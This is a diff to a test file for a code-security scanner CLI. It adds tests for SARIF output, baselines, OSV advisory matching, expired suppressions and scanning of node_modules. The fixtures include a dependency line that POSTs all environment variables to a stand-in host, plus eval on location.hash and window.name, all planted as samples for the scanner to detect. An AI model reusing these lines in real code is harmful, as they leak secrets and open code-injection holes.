@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { buildProject } from '../testing/build-project.ts';
 import { folderWith, runGuildhall } from '../testing/guildhall.ts';
 
@@ -21,7 +23,11 @@ describe('guildhall analyze', () => {
     const { stdout } = await runGuildhall(['analyze', '--no-manifest', '--json'], { cwd: folderWith(BUILT) });
     const document: unknown = JSON.parse(stdout);
     expect(document).toMatchObject({
-      findings: [{ file: 'dist/index.js', line: 2, severity: 'medium' }],
+      findings: [
+        { file: 'dist/index.js', line: 2, ruleId: 'stranger-runs-code', severity: 'critical' },
+        { file: 'dist/index.js', line: 2, ruleId: 'function-constructor' },
+        { file: 'package.json', severity: 'info' },
+      ],
       facts: { sizes: { 'dist/index.js': BAD.length } },
     });
     expect(stdout.match(/^ {2}"\w+"/gm)).toEqual(['  "findings"', '  "facts"']);
@@ -58,5 +64,58 @@ describe('guildhall analyze', () => {
     const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd });
     expect(ran).toMatchObject({ code: 1 });
     expect(ran.stderr).toContain('index.js');
+  });
+
+  it('writes SARIF, and a baseline after which the same findings fail nothing', async () => {
+    const cwd = folderWith({ 'index.js': 'eval(location.hash);\n' });
+    const args = ['analyze', '--no-manifest'];
+    const first = await runGuildhall([...args, '--sarif', 'out.sarif', '--write-baseline', 'known.json'], {
+      cwd,
+    });
+    expect(first).toMatchObject({ code: 1 });
+    expect(first.stdout).toContain('= docs: docs/rules/');
+    const sarif: unknown = JSON.parse(readFileSync(join(cwd, 'out.sarif'), 'utf8'));
+    expect(sarif).toMatchObject({ version: '2.1.0', runs: [{ results: [{ level: 'error' }, {}] }] });
+    const second = await runGuildhall([...args, '--baseline', 'known.json'], { cwd });
+    expect(second).toMatchObject({ code: 0 });
+    expect(second.stdout).toContain('suppressed');
+  });
+
+  it('holds dependencies against OSV data', async () => {
+    const cwd = folderWith({
+      'package.json': '{"name":"x","license":"MIT","dependencies":{"weak":"1.0.0"}}',
+      'osv/a.json':
+        '{"id":"MAL-1","affected":[{"package":{"ecosystem":"npm","name":"weak"},"versions":["1.0.0"]}]}',
+    });
+    const ran = await runGuildhall(['analyze', '--no-manifest', '--advisories', 'osv'], { cwd });
+    expect(ran.code).toBe(1);
+    expect(ran.stdout).toContain('weak 1.0.0 is affected by MAL-1');
+  });
+
+  it('names a suppression that has ended, and takes none without a reason', async () => {
+    const cwd = folderWith({
+      'index.js': '// guildhall-ignore eval-code until 2020-01-01: old\neval(name);\n',
+    });
+    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd });
+    expect(ran.code).toBe(1);
+    expect(ran.stderr).toContain('index.js:1: It ended on 2020-01-01');
+  });
+
+  it.each(['--baseline', '--advisories'])('says that what %s names is not there', async (option) => {
+    const ran = await runGuildhall(['analyze', '--no-manifest', option, 'absent'], { cwd: folderWith({}) });
+    expect(ran).toMatchObject({ code: 2 });
+    expect(ran.stderr).toContain('absent');
+  });
+
+  it('analyses what lies in node_modules, package by package', async () => {
+    const cwd = folderWith({
+      'package.json': '{"name":"x","license":"MIT"}',
+      'node_modules/dep/package.json': '{"name":"dep","version":"1.0.0","license":"MIT"}',
+      'node_modules/dep/index.js':
+        'fetch("https://x.example/", { method: "POST", body: JSON.stringify(process.env) });',
+    });
+    const ran = await runGuildhall(['analyze', '--no-manifest'], { cwd });
+    expect(ran.code).toBe(1);
+    expect(ran.stdout).toContain('--> node_modules/dep/index.js:1:1');
   });
 });
